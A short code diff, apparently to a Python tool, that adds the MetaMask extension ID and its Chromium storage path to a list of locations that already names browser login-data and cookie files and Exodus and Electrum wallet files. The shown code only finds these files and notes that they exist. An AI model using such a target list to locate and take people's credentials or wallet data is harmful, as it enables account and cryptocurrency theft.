@@ -12,6 +12,8 @@ _CHROMIUM = {
     "Edge": ".config/microsoft-edge",
     "Brave": ".config/BraveSoftware/Brave-Browser",
 }
+#: The number of MetaMask, by which a browser keeps what an extension keeps.
+_METAMASK = "nkbihfbeogaeaoehlefnkodbefgpgknn"
 _WALLETS = {
     "Exodus": ".config/Exodus/exodus.wallet",
     "Electrum": ".electrum/wallets/*",
@@ -31,6 +33,13 @@ SPOTS = (
         Spot(patterns=(f"{folder}/*/{name}",), exists=_there(f"{browser} (browser)"))
         for browser, folder in _CHROMIUM.items()
         for name in ("Login Data", "Cookies")
+    ),
+    *(
+        Spot(
+            patterns=(f"{folder}/*/Local Extension Settings/{_METAMASK}",),
+            exists=_there("MetaMask (wallet)", browser),
+        )
+        for browser, folder in _CHROMIUM.items()
     ),
     Spot(
         patterns=(
